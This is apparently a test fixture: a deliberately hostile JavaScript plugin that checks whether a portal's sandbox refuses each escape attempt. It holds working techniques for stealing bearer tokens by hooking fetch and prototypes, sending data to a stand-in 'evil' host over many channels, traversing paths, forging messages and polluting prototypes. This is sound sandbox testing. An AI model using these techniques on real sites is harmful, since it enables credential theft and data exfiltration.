// Tries everything that a plugin must not do. Every attempt returns what it reached, or throws.

export const apiVersion = 1;

/** An attempt that has not succeeded by then has failed, in milliseconds. */
const patience = 1_000;

export async function mount(root, host) {
  const [port, lure, end] = host.subpath().split('/');
  const scene = { root, host, evil: `http://127.0.0.1:${port}`, lure: `http://127.0.0.1:${lure}` };
  if (end) {
    root.textContent = 'About to leave.';
    // The plugin itself may be gone after these.
    setTimeout(() => endings[end](scene), 1_500);
    return { unmount() {} };
  }
  const list = document.createElement('ul');
  root.append(list);
  (async () => {
    for (const [name, attempt] of Object.entries(attempts(scene))) list.append(await outcome(name, attempt));
    const done = document.createElement('p');
    done.dataset.done = '';
    done.textContent = 'That was all.';
    root.append(done);
  })();
  return { unmount() {} };
}

async function outcome(name, attempt) {
  const line = document.createElement('li');
  line.dataset.attempt = name;
  try {
    const late = new Promise((_, reject) => setTimeout(() => reject(new Error('nothing happened')), patience));
    const reached = await Promise.race([Promise.resolve().then(attempt), late]);
    line.dataset.result = 'reached';
    line.textContent = `${name}: reached ${safely(() => String(reached)).slice(0, 300)}`;
  } catch (error) {
    line.dataset.result = 'refused';
    line.textContent = `${name}: refused, ${error?.name}: ${error?.message ?? error}`;
  }
  return line;
}

const refuse = reason => {
  throw new Error(reason);
};

const unless = (value, reason) => value ?? refuse(reason);

function attempts(scene) {
  return { ...belongings(scene), ...pages(), ...connections(scene), ...loads(scene), ...code(scene), ...frames(scene), ...requests(scene), ...powers(), ...forgeries(scene) };
}

/** What the reader and the portal have. */
const belongings = ({ host }) => ({
  cookie: () => ((document.cookie = 'hostile=1'), document.cookie || refuse('no cookie')),
  localStorage: () => localStorage.length,
  sessionStorage: () => sessionStorage.length,
  indexedDB: () => settled(indexedDB.open('hostile')),
  caches: () => caches.open('hostile'),
  'token in the page': () => {
    const texts = [document.documentElement.outerHTML, ...Object.getOwnPropertyNames(globalThis).map(name => safely(() => String(globalThis[name])))];
    return texts.find(text => /eyJ[\w-]+\.[\w-]+\.[\w-]+/.test(text)) ?? refuse('no token');
  },
  'token of a request': async () => {
    const { fetch: last } = globalThis;
    let seen;
    globalThis.fetch = (request, init) => {
      seen ??= new Headers(request?.headers ?? init?.headers).get('authorization');
      return last(request, init);
    };
    try {
      await host.fetch('/api/catalog/entities/by-query?limit=1');
    } finally {
      globalThis.fetch = last;
    }
    return unless(seen, 'no request was seen');
  },
  'token by prototypes': async () => {
    let seen;
    const look = values => (seen ??= values.map(value => safely(() => String(value))).find(text => /eyJ[\w-]+\.[\w-]+/.test(text)));
    const places = [[Headers, 'set'], [Headers, 'append'], [XMLHttpRequest, 'setRequestHeader'], [Response, 'text'], [Response, 'json'], [Promise, 'then'], [MessagePort, 'postMessage']];
    const originals = places.map(([{ prototype }, name]) => [prototype, name, prototype[name]]);
    for (const [prototype, name, original] of originals) {
      prototype[name] = function (...values) {
        look(values);
        return original.apply(this, values);
      };
    }
    try {
      await host.fetch('/api/catalog/entities/by-query?limit=1');
    } finally {
      for (const [prototype, name, original] of originals) prototype[name] = original;
    }
    return unless(seen, 'no token passed by');
  },
  'token of an answer': async () => {
    const answer = await host.fetch('/api/catalog/entities/by-query?limit=1');
    return unless(answer.headers.get('authorization') ?? answer.headers.get('set-cookie'), 'none in the answer');
  },
});

/** Other documents. */
const pages = () => ({
  'parent document': () => (parent === window ? document.title : parent.document.title),
  'top document': () => (top === window ? document.querySelector('nav').innerText : top.document.title),
  'parent storage': () => parent.localStorage.length,
  'top global': () => typeof unless(top.callboardBegun, 'not there'),
  'frame element': () => (top === window ? refuse('no frame') : unless(window.frameElement, 'no element')),
  'top location': () => top.location.href,
  'top navigation': () => void (top.location.hash = '#hostile'),
  'top navigation by a link': () => follow({ target: '_top', href: '#hostile-link' }) || reachedAddress('hostile-link'),
  'parent navigation': () => void (parent.location.hash = '#hostile-parent'),
  popup: () => unless(window.open('about:blank'), 'no window').close(),
  'popup by a link': () => follow({ target: '_blank', href: 'about:blank' }) || refuse('not to be seen from here'),
});

const reachedAddress = hash => new Promise((resolve, reject) => setTimeout(() => (location.hash === `#${hash}` ? resolve(hash) : reject(new Error('nothing happened'))), 300));

/** Ways out without loading anything. */
const connections = ({ evil }) => ({
  fetch: () => fetch(`${evil}/fetch`),
  'fetch without CORS': () => fetch(`${evil}/no-cors`, { mode: 'no-cors' }),
  'fetch of the portal': () => fetch('/config.json').then(({ url }) => url),
  XMLHttpRequest: () => {
    const request = new XMLHttpRequest();
    request.open('GET', `${evil}/xhr`);
    request.send();
    return settled(request, 'load');
  },
  WebSocket: () => settled(new WebSocket(evil.replace('http', 'ws')), 'open'),
  EventSource: () => settled(new EventSource(`${evil}/events`), 'open'),
  beacon: () => (navigator.sendBeacon(`${evil}/beacon`, 'x') ? refuse('only a server knows') : refuse('refused')),
  'fetch later': () => (fetchLater(`${evil}/later?data`, { activateAfter: 0 }), refuse('only a server knows')),
  WebTransport: () => new WebTransport(`${evil.replace('http', 'https')}/transport`).ready,
  WebRTC: async () => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${evil.slice(7)}` }] });
    connection.createDataChannel('out');
    await connection.setLocalDescription(await connection.createOffer());
    return 'a connection';
  },
  ping: () => follow({ href: '#', ping: `${evil}/ping` }) || refuse('only a server knows'),
});

/** Things to load, each with data in its address. */
const loads = ({ root, evil }) => {
  const add = (tag, attributes) => {
    const element = Object.assign(document.createElement(tag), attributes);
    const loaded = settled(element, 'load');
    root.append(element);
    return loaded.finally(() => element.remove());
  };
  const link = (rel, more = {}) => () => add('link', { rel, href: `${evil}/${rel}?data`, ...more });
  // These load nothing, and say nothing of what they did.
  const hint = rel => async () => {
    const element = Object.assign(document.createElement('link'), { rel, href: evil });
    document.head.append(element);
    await new Promise(resolve => setTimeout(resolve, 200));
    element.remove();
    refuse('only a server knows');
  };
  const style = css => async () => {
    const element = Object.assign(document.createElement('style'), { textContent: css });
    const text = Object.assign(document.createElement('p'), { className: 'hostile-style', textContent: 'x' });
    root.append(element, text);
    // What a sheet names is loaded once it is needed, which is when the text is drawn.
    text.scrollIntoView();
    await new Promise(resolve => setTimeout(resolve, 500));
    element.remove();
    text.remove();
    refuse('only a server knows');
  };
  return {
    image: () => add('img', { src: `${evil}/image?data` }),
    script: () => add('script', { src: `${evil}/script?data` }),
    'module script': () => add('script', { type: 'module', src: `${evil}/module?data` }),
    stylesheet: link('stylesheet'),
    preload: link('preload', { as: 'image' }),
    modulepreload: link('modulepreload'),
    prefetch: link('prefetch'),
    prerender: link('prerender'),
    icon: link('icon'),
    manifest: link('manifest'),
    preconnect: hint('preconnect'),
    'dns-prefetch': hint('dns-prefetch'),
    object: () => add('object', { data: `${evil}/object?data` }),
    embed: () => add('embed', { src: `${evil}/embed?data` }),
    video: () => settled(Object.assign(document.createElement('video'), { src: `${evil}/video?data`, preload: 'auto' }), 'loadeddata'),
    audio: () => settled(new Audio(`${evil}/audio?data`), 'loadeddata'),
    poster: () => settled(Object.assign(document.createElement('video'), { poster: `${evil}/poster?data` }), 'loadeddata'),
    'SVG image': async () => {
      const drawing = Object.assign(document.createElement('div'), { innerHTML: `<svg><image href="${evil}/svg-image?data"/><use href="${evil}/svg-use?data#a"/></svg>` });
      root.append(drawing);
      await new Promise(resolve => setTimeout(resolve, 200));
      drawing.remove();
      refuse('only a server knows');
    },
    'style import': style(`@import url(${evil}/import?data);`),
    'style image': style(`.hostile-style { background: url(${evil}/background?data); }`),
    'style font': style(`@font-face { font-family: hostile; src: url(${evil}/font?data); } .hostile-style { font-family: hostile; }`),
    'import()': () => import(`${evil}/import.js?data`),
    'speculation rules': () => {
      root.append(Object.assign(document.createElement('script'), { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: [`${evil}/speculation`] }] }) }));
      refuse('only a server knows');
    },
  };
};

/** Code that the policy should not run. */
const code = ({ evil }) => ({
  eval: () => (0, eval)('"run"'),
  'new Function': () => new Function('return "run"')(),
  'timer of text': () => ran(name => setTimeout(`globalThis.${name} = true`)),
  'inline script': () => ran(name => document.head.append(Object.assign(document.createElement('script'), { textContent: `globalThis.${name} = true` }))),
  'inline handler': () => ran(name => Object.assign(document.createElement('button'), {}).setAttribute('onclick', `globalThis.${name} = true`)),
  'javascript: link': () => ran(name => follow({ href: `javascript:globalThis.${name} = true` })),
  'worker of a blob': () => settled(new Worker(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }))), 'message'),
  'worker of data': () => settled(new Worker('data:text/javascript,postMessage(1)'), 'message'),
  'audio worklet': () => new AudioContext().audioWorklet.addModule(`${evil}/worklet.js?data`).then(() => 'added'),
  'shared worker': () => new SharedWorker(`${evil}/shared.js`).port,
  'service worker': () => navigator.serviceWorker.register('/sw.js'),
});

/** Frames of its own, which might know less of the policy. */
const frames = ({ root, evil }) => {
  const frame = async (attributes, use) => {
    const element = Object.assign(document.createElement('iframe'), attributes);
    root.append(element);
    await new Promise(resolve => setTimeout(resolve, 300));
    try {
      return await use(element.contentWindow);
    } finally {
      element.remove();
    }
  };
  const spy = `<script>parent.postMessage('spy ran', '*'); fetch('${evil}/spy'); new Image().src = '${evil}/spy-image'; try { new RTCPeerConnection() } catch {}</script>`;
  const heard = attributes => () => {
    const message = new Promise(resolve => addEventListener('message', ({ data }) => data === 'spy ran' && resolve(data)));
    return frame(attributes, () => Promise.race([message, new Promise((_, reject) => setTimeout(() => reject(new Error('nothing happened')), 500))]));
  };
  return {
    'frame of a server': () => frame({ src: `${evil}/frame?data` }, () => refuse('only a server knows')),
    'blank frame: fetch': () => frame({}, inner => inner.fetch(`${evil}/blank`)),
    'blank frame: WebRTC': () => frame({}, inner => unless(inner.RTCPeerConnection, 'none')),
    'frame of text': heard({ srcdoc: spy }),
    'frame of data': heard({ src: `data:text/html,${encodeURIComponent(spy)}` }),
    'frame with a script of a blob': () => {
      const script = URL.createObjectURL(new Blob(["parent.postMessage('spy ran', '*')"], { type: 'text/javascript' }));
      return heard({ srcdoc: `<script src="${script}"></script>` })();
    },
    'frame of the same text: WebRTC': () => frame({ srcdoc: `<script>${document.scripts[0]?.textContent}</script>` }, again),
    'frame of a blob': heard({ src: URL.createObjectURL(new Blob([spy], { type: 'text/html' })) }),
  };
};

/** Starts what this document is made of once more, in a frame of the plugin's, and looks what is there. */
function again(inner) {
  const { port1: port, port2 } = new MessageChannel();
  const source = `export const apiVersion = 1; export function mount() { parent.postMessage('again ' + typeof RTCPeerConnection, '*'); return { unmount() {} }; }`;
  const told = new Promise(resolve => addEventListener('message', ({ data }) => /^again /.test(data) && resolve(data)));
  inner.postMessage('port', '*', [port2]);
  port.postMessage({ is: 'start', source, url: 'again.js', extension: {}, subpath: '', entityHref: '', title: '', tokens: '', base: '' });
  const late = new Promise((_, reject) => setTimeout(() => reject(new Error('nothing happened')), 500));
  return Promise.race([told, late]).then(data => (data === 'again function' ? data : refuse('not there either')));
}

/** Requests through the portal that are not declared. */
function requests({ host, evil, lure }) {
  const paths = [
    '/api/auth/guest/refresh', '/api/catalog/../auth/guest/refresh', '/api/catalog/%2e%2e/auth/guest/refresh', '/api/catalog/%2E./auth/guest/refresh',
    '/api/catalog%2f..%2fauth/guest/refresh', '/api/catalog/..%2fauth/guest/refresh', '/api/catalog/%252e%252e/auth/guest/refresh', '/api/catalog/..;/auth/guest/refresh',
    '/api/catalog\\..\\auth\\guest\\refresh', '/api/catalog/%5c../auth', '/api//catalog/entities', '//127.0.0.1/api/catalog', '/API/catalog/entities', '/api/catalogue',
    '/api/catalog/\t../auth', '/api/catalog/\n../auth', ' /api/catalog', 'api/catalog', '', '/', '.', '/api/catalog/./entities', '/config.json',
    `${evil}/x`, `${evil.replace('http:', '')}/x`, `${lure}@${evil.slice(7)}/x`, `${lure}.evil.example/x`, `${lure}\\@evil.example/`, `${lure}/`.replace('http', 'HTTP'),
    'javascript:1', 'data:text/plain,x', 'blob:null/x', 'file:///etc/passwd', 'about:blank',
  ];
  const refusals = paths.map(path => [`host.fetch ${JSON.stringify(path)}`, async () => (await host.fetch(path)).status]);
  return {
    ...Object.fromEntries(refusals),
    'host.fetch of an object': () => host.fetch({ toString: () => '/api/catalog' }),
    'host.fetch redirected': async () => (await host.fetch(`${lure}/redirect`)).status,
    'host.fetch with another mode': async () => {
      const answer = await host.fetch(`${lure}/plain`, { mode: 'no-cors', redirect: 'follow', credentials: 'include', referrer: '/secret' });
      return answer.redirected || (await answer.text()) !== 'no cookie, no token, no referrer' ? 'more than it should' : refuse('as it should be');
    },
    'storage of another plugin': async () => {
      for (const key of ['acme.other', 'plugin-storage acme.other', '../acme.other', '__proto__', 'constructor']) {
        const kept = await host.storage.get(key);
        if (kept !== undefined) return kept;
      }
      refuse('nothing there');
    },
    'storage without end': async () => {
      for (let i = 0; i < 30; i += 1) await host.storage.set(`key ${i}`, 'x'.repeat(5_000));
    },
  };
}

/** What a browser asks people about. */
const powers = () => ({
  'clipboard, to read': () => navigator.clipboard.readText(),
  'clipboard, to write': () => navigator.clipboard.writeText('hostile'),
  geolocation: () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)),
  notifications: async () => ((await Notification.requestPermission()) === 'granted' ? 'granted' : refuse('denied')),
  camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
  'screen capture': () => navigator.mediaDevices.getDisplayMedia(),
  'pointer lock': () => document.documentElement.requestPointerLock(),
  'size of the page around': () =>
    new Promise((resolve, reject) => {
      // Without a root it is the page's; frames of other origins are not told its bounds.
      new IntersectionObserver(([{ rootBounds }]) => (rootBounds ? resolve(rootBounds.width) : reject(new Error('not told')))).observe(document.body);
    }),
  'size of the window': () => unless(outerWidth || undefined, 'not told'),
  'full screen': () => document.documentElement.requestFullscreen(),
  'storage access': () => document.requestStorageAccess(),
  alert: () => (alert('hostile'), refuse('only a reader knows')),
  print: () => (print(), refuse('only a reader knows')),
});

/** Messages in the portal's name, and values that are more than they seem. */
const forgeries = ({ host }) => ({
  'messages to the frame around': () => {
    for (const target of new Set([parent, top])) {
      for (const data of ['port', { is: 'start', source: '' }, { scheme: 'url(x)' }, null, 7]) target.postMessage(data, '*');
    }
    refuse('nobody answers');
  },
  'the port, by its prototype': async () => {
    const { postMessage } = MessagePort.prototype;
    let port;
    MessagePort.prototype.postMessage = function (...values) {
      port ??= this;
      return postMessage.apply(this, values);
    };
    // In a frame every call goes over the port; it can be had, and is of no use.
    await host.storage.get('x');
    MessagePort.prototype.postMessage = postMessage;
    if (!port) refuse('there is none');
    const answers = [];
    const forged = new Map();
    port.addEventListener('message', ({ data }) => forged.has(data?.id) && answers.push(data));
    const call = (name, args) => {
      const id = 1e9 + forged.size;
      forged.set(id, name);
      postMessage.call(port, { is: 'call', id, name, args });
    };
    for (const name of ['constructor', '__proto__', 'toString', 'eval', 'fetch', 'read', 'write']) call(name, ['/api/auth/guest/refresh']);
    call('fetch', '/api/catalog');
    call('fetch', [{ toString: 1 }]);
    call('write', ['__proto__', '{"polluted": true}']);
    call('navigate', ['javascript:globalThis.hostile = true']);
    const noise = [null, 7, 'text', [], { is: '__proto__' }, { is: 'constructor' }, { is: 'height', height: 1e9 }, { is: 'height', height: NaN }, { is: 'height', height: -5 }, { is: 'key', key: 'Delete' }, { is: 'cancel', id: 'nobody' }, { is: 'notify', message: { a: 1 }, kind: [] }, { is: 'call' }, { is: 'call', id: {}, name: {}, args: {} }];
    for (const message of noise) postMessage.call(port, message);
    await new Promise(resolve => setTimeout(resolve, 500));
    // One's own storage is all that may answer.
    const good = answers.filter(({ id, error }) => !error && !['read', 'write'].includes(forged.get(id)));
    if (answers.length !== forged.size) return `${answers.length} answers to ${forged.size} calls`;
    return good.length ? JSON.stringify(good) : refuse(`${answers.length} answers, and all refuse`);
  },
  'prototype of the portal': () => {
    Object.prototype.polluted = 'polluted';
    try {
      return unless(top === window ? {}.polluted : top.Object?.prototype?.polluted, 'not theirs');
    } finally {
      delete Object.prototype.polluted;
    }
  },
});

/** Attempts that may end the plugin: leaving for another server, with data. */
const endings = {
  location: ({ evil }) => (location.href = `${evil}/location?data`),
  replace: ({ evil }) => location.replace(`${evil}/replace?data`),
  link: ({ evil }) => follow({ href: `${evil}/link?data` }),
  form({ root, evil }) {
    const form = Object.assign(document.createElement('form'), { action: `${evil}/form?data`, method: 'post' });
    root.append(form);
    form.submit();
  },
  refresh: ({ evil }) => document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0; url=${evil}/refresh?data` })),
  open: ({ evil }) => window.open(`${evil}/open?data`, '_self'),
  'parent-link': ({ evil }) => follow({ href: `${evil}/parent?data`, target: '_parent' }),
  'top-link': ({ evil }) => follow({ href: `${evil}/top?data`, target: '_top' }),
  'top-form'({ root, evil }) {
    const form = Object.assign(document.createElement('form'), { action: `${evil}/top-form?data`, target: '_top' });
    root.append(form);
    form.submit();
  },
  download: () => follow({ href: 'data:text/plain,hostile', download: 'hostile.txt' }),
  data: ({ evil }) => (location.href = `data:text/html,${encodeURIComponent(letter(evil))}`),
  blob: ({ evil }) => (location.href = URL.createObjectURL(new Blob([letter(evil)], { type: 'text/html' }))),
  again: () => location.reload(),
  keys: pressKeys,
  back: () => history.back(),
  code: ({ host }) => host.navigate('javascript:globalThis.hostile = true'),
  'code-as-data': ({ host, evil }) => host.navigate(`data:text/html,${letter(evil)}`),
  'navigate-relative': ({ host, evil }) => host.navigate(`${evil.replace('http:', '')}/navigate?data`),
  navigate: ({ host, evil }) => host.navigate(`${evil}/navigate?data`),
};

/** A document that writes home in every way it can. */
const letter = evil => `<script>fetch('${evil}/letter'); new Image().src = '${evil}/letter-image'; new RTCPeerConnection({ iceServers: [{ urls: 'stun:${evil.slice(7)}' }] }).createDataChannel('x')</script><img src="${evil}/letter-plain">`;

/** Keys that nobody pressed, by events and by messages in the document's name. */
function pressKeys({ root, host }) {
  const { postMessage } = MessagePort.prototype;
  MessagePort.prototype.postMessage = function (...values) {
    postMessage.apply(this, values);
    for (const key of ['/', '?']) postMessage.call(this, { is: 'key', key });
    postMessage.call(this, { is: 'key', key: 'k', ctrlKey: true });
  };
  host.storage.get('x');
  MessagePort.prototype.postMessage = postMessage;
  for (const key of ['/', '?']) root.dispatchEvent(new KeyboardEvent('keydown', { key, bubbles: true, composed: true }));
}

function follow(attributes) {
  const link = Object.assign(document.createElement('a'), attributes);
  document.body.append(link);
  link.click();
  link.remove();
}

/** Resolves with an event or a request's success, rejects with `error`. */
function settled(target, event = 'success') {
  return new Promise((resolve, reject) => {
    target.addEventListener(event, () => resolve(event), { once: true });
    target.addEventListener('error', () => reject(target.error ?? new Error('refused by the browser')), { once: true });
  });
}

async function ran(start) {
  const name = `ran${Math.random().toString(36).slice(2)}`;
  start(name);
  await new Promise(resolve => setTimeout(resolve, 100));
  return globalThis[name] === true ? 'run' : refuse('not run');
}

function safely(read) {
  try {
    return read();
  } catch {
    return '';
  }
}
